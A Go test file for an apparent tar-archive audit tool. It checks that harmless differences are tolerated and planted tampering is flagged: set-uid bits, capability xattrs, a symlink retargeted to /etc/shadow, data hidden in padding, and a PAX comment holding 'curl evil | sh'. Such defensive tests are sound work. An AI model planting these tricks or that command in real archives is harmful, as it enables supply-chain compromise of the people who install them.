package compare_test

import (
	"archive/tar"
	"bytes"
	"testing"
	"time"

	"github.com/proffer-audit/proffer/audit/compare"
	"github.com/proffer-audit/proffer/reports"
)

type tarEntry struct {
	header  tar.Header
	content []byte
}

func regular(name string, mode int64, content []byte) tarEntry {
	return tarEntry{tar.Header{Name: name, Mode: mode, Typeflag: tar.TypeReg, ModTime: time.Unix(1700000000, 0)}, content}
}

func tarOf(t testing.TB, entries ...tarEntry) []byte {
	t.Helper()
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	for _, e := range entries {
		h := e.header
		h.Size = int64(len(e.content))
		if err := w.WriteHeader(&h); err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write(e.content); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// alter changes the header of each entry.
func alter(entries []tarEntry, change func(h *tar.Header)) []tarEntry {
	var out []tarEntry
	for _, e := range entries {
		change(&e.header)
		out = append(out, e)
	}
	return out
}

func tarPairs(t testing.TB) []pair {
	s := seed(1)
	base := []tarEntry{regular("bin/agent", 0o755, s.bytes(3000)), regular("etc/agent.conf", 0o644, s.text(700)), regular("readme", 0o644, s.text(1024))}
	plain := tarOf(t, base...)
	change := func(f func(h *tar.Header)) []byte { return tarOf(t, alter(base, f)...) }
	only := func(name string, f func(h *tar.Header)) []byte {
		return change(func(h *tar.Header) {
			if h.Name == name {
				f(h)
			}
		})
	}
	link := tarEntry{tar.Header{Name: "current", Linkname: "bin/agent", Typeflag: tar.TypeSymlink, Mode: 0o777}, nil}
	elsewhere := link
	elsewhere.header.Linkname = "/etc/shadow"
	pad := bytes.Index(plain, base[1].content) + len(base[1].content)
	pax := func(records map[string]string) []byte {
		return only("bin/agent", func(h *tar.Header) { h.Format, h.PAXRecords = tar.FormatPAX, records })
	}
	return []pair{
		benign("tar times", reports.EqualNormalised, change(func(h *tar.Header) { h.ModTime = time.Unix(1800000000, 0) }), plain),
		benign("tar owners", reports.EqualNormalised, change(func(h *tar.Header) { h.Uid, h.Gid, h.Uname = 1000, 1000, "builder" }), plain),
		benign("tar order", reports.EqualNormalised, tarOf(t, base[2], base[0], base[1]), plain),
		benign("tar fractional times", reports.EqualNormalised, change(func(h *tar.Header) { h.Format, h.ModTime = tar.FormatPAX, time.Unix(1700000000, 5) }), plain),
		benign("tar blocking", reports.EqualNormalised, append(bytes.Clone(plain), make([]byte, 9*512)...), plain),
		hidden("tar set-uid", only("bin/agent", func(h *tar.Header) { h.Mode = 0o4755 }), plain, compare.SetID),
		hidden("tar capability", pax(map[string]string{"SCHILY.xattr.security.capability": "\x01\x00\x00\x02\x00\x20\x00\x00"}), plain, compare.Capability),
		planted("tar executable bit", only("etc/agent.conf", func(h *tar.Header) { h.Mode = 0o755 }), plain, compare.Permission),
		planted("tar link target", tarOf(t, append(base, elsewhere)...), tarOf(t, append(base, link)...), compare.LinkTarget),
		planted("tar link order", tarOf(t, base[0], link, base[1], base[2]), tarOf(t, base[0], base[1], base[2], link), compare.Ambiguous),
		planted("tar appended", append(bytes.Clone(plain), s.bytes(600)...), plain, compare.Appended),
		planted("tar round-up", with(plain, pad, []byte("payload!")...), plain, compare.HiddenData),
		planted("tar added member", tarOf(t, append(base, regular("bin/extra", 0o755, s.bytes(100)))...), plain, compare.AddedMember),
		planted("tar missing member", tarOf(t, base[:2]...), plain, compare.MissingMember),
		planted("tar duplicate", tarOf(t, append(base, regular("bin/agent", 0o755, s.bytes(3000)))...), plain, compare.Duplicate),
		planted("tar comment", pax(map[string]string{"comment": "curl evil | sh"}), plain, compare.Comment),
		planted("tar unknown attribute", pax(map[string]string{"VENDOR.hook": "run"}), plain, compare.ExtraField),
		planted("tar content", tarOf(t, regular("bin/agent", 0o755, with(base[0].content, 10, 1, 2, 3)), base[1], base[2]), plain),
	}
}
